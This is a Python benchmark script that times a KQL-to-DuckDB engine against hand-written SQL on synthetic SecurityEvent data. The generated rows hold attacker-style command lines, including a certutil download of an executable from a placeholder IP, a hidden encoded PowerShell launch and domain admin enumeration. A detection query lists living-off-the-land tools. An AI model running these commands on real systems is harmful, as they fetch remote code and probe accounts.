"""What KQL costs on the embedded engine beyond DuckDB: each operator against SQL written by hand for the same answer.

The rows are like SecurityEvent's, in one Parquet file that both read in place. Each pair runs in turn, so that a busy
machine slows both alike; a figure is the median of ours over the median of the hand-written. Set ``ROWS`` for more or
fewer than 5 million, and ``ROUNDS`` for more or fewer than three runs of each.
"""

from __future__ import annotations

import asyncio
import compileall
import os
import statistics
import subprocess
import sys
import tempfile
import time
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, TypeVar

import duckdb

import jupyterlab_sentinel
from jupyterlab_sentinel.backends.embedded import EmbeddedBackend
from jupyterlab_sentinel.backends.embedded.catalogue import known_tables
from jupyterlab_sentinel.backends.embedded.execution import Execution
from jupyterlab_sentinel.backends.embedded.opening import open_workspace
from jupyterlab_sentinel.backends.embedded.programs import Programs
from jupyterlab_sentinel.backends.embedded.tables import StoredColumn, StoredTable
from jupyterlab_sentinel.ports import QueryRequest

if TYPE_CHECKING:
    import pyarrow as pa

    from jupyterlab_sentinel.backends.embedded.opening import OpenWorkspace
    from jupyterlab_sentinel.backends.embedded.translation.discovery import Ask

T = TypeVar("T")

ROWS = int(os.environ.get("ROWS", "5000000"))
CASES: dict[str, dict[str, str]] = tomllib.loads(Path(__file__).with_name("engine_cases.toml").read_text("utf-8"))
ROUNDS = int(os.environ.get("ROUNDS", "3"))

_DATA = """
WITH dice AS (
    SELECT i, list_transform(range(12), lambda k: CAST(hash(i, k) % 1000000 AS BIGINT)) AS d FROM range({rows}) AS r(i)
)
SELECT
    TIMESTAMP '2026-01-01' + INTERVAL (i * 100) MILLISECOND AS TimeGenerated,
    'host' || (d[1] % 500) || '.contoso.com' AS Computer,
    'CONTOSO\\user' || (d[2] % 3000) AS Account,
    CAST([4624, 4625, 4688, 4672, 4634, 5156, 4698, 7045][1 + d[3] % 8] AS INTEGER) AS EventID,
    'C:\\Windows\\System32\\' || ['cmd', 'powershell', 'svchost', 'rundll32', 'certutil', 'lsass', 'net'][1 + d[4] % 7]
        || '.exe' AS Process,
    ['cmd.exe /c whoami /all', 'powershell -enc SQBFAFgA -nop -w hidden', 'svchost.exe -k netsvcs -p',
     'certutil -urlcache -f http://198.51.100.7/a.exe', 'net user administrator /domain',
     'rundll32 javascript:mshtml,RunHTMLApplication'][1 + d[5] % 6] || ' id' || (d[6] % 100000) AS CommandLine,
    '10.' || (d[7] % 256) || '.' || (d[8] % 256) || '.' || (d[9] % 256) AS IpAddress,
    '{"LogonType":"' || (d[10] % 11) || '","Status":"0x' || (d[11] % 4) || '","TargetUser":"u' || (d[12] % 3000)
        || '"}' AS EventData
FROM dice
"""


def data(rows: int) -> str:
    """SQL that makes ``rows`` rows."""
    return _DATA.replace("{rows}", str(rows))


def paired(ours: Callable[[], object], theirs: Callable[[], object]) -> tuple[float, float]:
    """Median seconds of each, run in turn."""
    seconds: tuple[list[float], list[float]] = ([], [])
    for _ in range(ROUNDS):
        for place, run in enumerate((ours, theirs)):
            began = time.perf_counter()
            run()
            seconds[place].append(time.perf_counter() - began)
    return statistics.median(seconds[0]), statistics.median(seconds[1])


def _answered(opened: OpenWorkspace, ask: Callable[[Execution], T]) -> T:
    """What a query of its own gives, as the backend runs it."""
    execution = Execution(opened.connection, opened.functions, opened.macros, opened.trust)
    try:
        return ask(execution)
    finally:
        execution.close()


def _asked(opened: OpenWorkspace) -> Ask:
    return lambda sql: _answered(opened, lambda execution: execution.rows(sql))


def operators(folder: Path) -> None:
    """Each case: ours over the hand-written."""
    file = folder / "SecurityEvent.parquet"
    plain = duckdb.connect()
    plain.execute(f"COPY ({data(ROWS)}) TO '{file}' (FORMAT parquet)")
    plain.execute(f"CREATE VIEW T AS SELECT * FROM read_parquet('{file}')")
    opened = open_workspace(folder, "bench", folder / "cache", None)
    over: list[str] = []
    print(f"{ROWS:,} rows, ours over SQL written by hand")
    for name, case in CASES.items():
        kql, sql = case["kql"].strip(), case["sql"].strip()
        request = QueryRequest(kql if kql.startswith("let ") else f"SecurityEvent | {kql}")
        statement = opened.programs.translate(request, _asked(opened)).statements[0].sql

        def ours(statement: str = statement) -> pa.Table:
            return _answered(opened, lambda execution: execution.table(statement))

        def theirs(sql: str = sql) -> pa.Table:
            return plain.sql(sql).to_arrow_table()

        mine, other = paired(ours, theirs)
        if mine > 1.5 * other:
            over.append(name)
        print(f"  {name:20} {mine / other:5.2f}   ({mine * 1000:7.0f} ms, {other * 1000:7.0f} ms)")
    print(f"  {len(CASES)} pairs; over 1.5: {', '.join(over) or 'none'}")
    opened.close()
    plain.close()


def frame() -> None:
    """A million rows of seven columns to a typed frame, against DuckDB's own way to pandas."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        file = folder / "T.parquet"
        plain = duckdb.connect()
        plain.execute(f"COPY (SELECT * EXCLUDE EventData FROM ({data(1_000_000)})) TO '{file}' (FORMAT parquet)")
        backend = EmbeddedBackend.create(str(folder), {"cache_dir": str(folder / "cache")})
        with asyncio.Runner() as runner:
            runner.run(backend.open())
            mine, other = paired(
                lambda: runner.run(backend.run(QueryRequest("T"))).to_pandas(),
                lambda: plain.sql(f"SELECT * FROM read_parquet('{file}')").df(),
            )
            runner.run(backend.close())
        plain.close()
    print(f"1,000,000 rows by 7 columns to a frame: {mine / other:.2f} of DuckDB's df() ({mine * 1000:.0f} ms)")


def searching() -> None:
    """``search`` over a folder of 20 tables against reading the same texts with ``contains``."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        plain = duckdb.connect()
        for place in range(20):
            file = folder / f"T{place}.parquet"
            plain.execute(f"COPY ({data(ROWS // 20)}) TO '{file}' (FORMAT parquet)")
            plain.execute(f"CREATE VIEW T{place} AS SELECT * FROM read_parquet('{file}')")
        opened = open_workspace(folder, "bench", folder / "cache", None)
        program = opened.programs.translate(QueryRequest("search 'certutil' | summarize count() by $table"))
        opened.macros.prepare(opened.connection, program.statements[0].sql)
        texts = ("Computer", "Account", "Process", "CommandLine", "IpAddress", "EventData")
        test = " OR ".join(f"contains(lower({text}), 'certutil')" for text in texts)
        sql = " UNION ALL ".join(f"SELECT 'T{place}', count(*) FROM T{place} WHERE {test}" for place in range(20))
        mine, other = paired(
            lambda: opened.connection.sql(program.statements[0].sql).to_arrow_table(),
            lambda: plain.sql(sql).to_arrow_table(),
        )
        opened.close()
        plain.close()
    print(f"search over 20 tables, {ROWS:,} rows: {mine / other:.2f} of contains() by hand ({mine * 1000:.0f} ms)")


_QUERY = """let lookback = {days}d;
let tools = dynamic(['certutil.exe', 'bitsadmin.exe', 'mshta.exe', 'rundll32.exe', 'tool{place}.exe']);
let admins = IdentityInfo | where TimeGenerated > ago(lookback) | where AssignedRoles has 'Global Administrator'
| summarize arg_max(TimeGenerated, *) by AccountUPN | project AccountUPN, AccountObjectId;
SecurityEvent
| where TimeGenerated > ago(lookback) and EventID in (4688, 4624, {place})
| where NewProcessName has_any (tools) or CommandLine matches regex @'(?i)https?://[a-z0-9.\\-]+/payload{place}'
| extend Tool = tostring(split(NewProcessName, @'\\')[-1]), Parent = iff(isempty(ParentProcessName), 'none',
    tolower(ParentProcessName)), Data = parse_xml(EventData)
| extend Host = tostring(Data.EventData.Host), Port = toint(Data.EventData.Port)
| where Parent !endswith 'explorer.exe' and not(CommandLine has_all ('signed', 'update')) and Account !in~ ('SYSTEM')
| summarize Starts = count(), First = min(TimeGenerated), Last = max(TimeGenerated), Lines = make_set(CommandLine, 50),
    Parents = make_set(Parent, 20), Ports = make_list(Port, 10) by Computer, Account, Tool, bin(TimeGenerated, 1h)
| where Starts > {days} and datetime_diff('minute', Last, First) between (0 .. 59)
| join kind=leftouter (SigninLogs | where TimeGenerated > ago(lookback) and ResultType == 0
    | extend City = tostring(LocationDetails.city), Country = tostring(LocationDetails.countryOrRegion)
    | summarize Cities = make_set(City), Addresses = dcount(IPAddress) by UserPrincipalName) on
    $left.Account == $right.UserPrincipalName
| join kind=leftanti admins on $left.Account == $right.AccountUPN
| extend Score = case(Addresses > 5, 'High', Addresses > 2, 'Medium', 'Low'), Key = strcat(Computer, '|', Account)
| project-away UserPrincipalName | project-reorder Last, Score, Computer, Account
| order by Last desc nulls last | take 1000
"""


def translating() -> None:
    """Queries of about 1,500 characters with the whole catalogue of tables; each is new to the engine."""
    tables = {
        name: StoredTable(
            name,
            f"t{place}",
            (),
            tuple(StoredColumn(c, kind, f"c{i}") for i, (c, kind) in enumerate(columns.items())),
            0,
            None,
            None,
        )
        for place, (name, columns) in enumerate(known_tables().items())
    }
    programs = Programs(tables)
    query = _QUERY.replace("parse_xml(EventData)", "parse_json(EventData)")
    milliseconds = []
    for place in range(200):
        text = query.replace("{place}", str(place)).replace("{days}", str(1 + place % 30))
        began = time.perf_counter()
        programs.translate(QueryRequest(text))
        milliseconds.append((time.perf_counter() - began) * 1000)
    warm = sorted(milliseconds[20:])
    print(
        f"translating {len(query):,} characters with {len(tables)} tables: first {milliseconds[0]:.0f} ms, "
        f"median {statistics.median(warm):.1f}, 95th percentile {warm[int(len(warm) * 0.95)]:.1f}"
    )


_FIRST = """
import asyncio, sys, time
began = time.perf_counter()
import duckdb
imported = time.perf_counter()
from jupyterlab_sentinel.backends.embedded import EmbeddedBackend
from jupyterlab_sentinel.ports import QueryRequest
async def main():
    backend = EmbeddedBackend.create(sys.argv[1], {"cache_dir": sys.argv[1] + "/cache"})
    await backend.open()
    await backend.run(QueryRequest("T | where EventID == 4625 | summarize count() by Account | top 10 by count_"))
    await backend.close()
asyncio.run(main())
print(imported - began, time.perf_counter() - imported)
"""


def first_query() -> None:
    """Opening a folder and its first query in a fresh process, beyond importing DuckDB; all modules are compiled."""
    compileall.compile_dir(Path(jupyterlab_sentinel.__file__).parent, quiet=1)
    with tempfile.TemporaryDirectory() as folder:
        plain = duckdb.connect()
        plain.execute(f"COPY ({data(1000)}) TO '{folder}/T.parquet' (FORMAT parquet)")
        plain.close()
        samples = [
            [
                float(part)
                for part in subprocess.run(
                    [sys.executable, "-c", _FIRST, folder], capture_output=True, text=True, check=True
                ).stdout.split()
            ]
            for _ in range(ROUNDS)
        ]
    imported, more = (statistics.median(sample[place] for sample in samples) for place in (0, 1))
    print(f"first query of a session: {more / imported:.2f} of importing duckdb on top ({more * 1000:.0f} ms)")


def main() -> None:
    """Print every figure."""
    with tempfile.TemporaryDirectory() as folder:
        operators(Path(folder))
    frame()
    searching()
    translating()
    first_query()


if __name__ == "__main__":
    main()
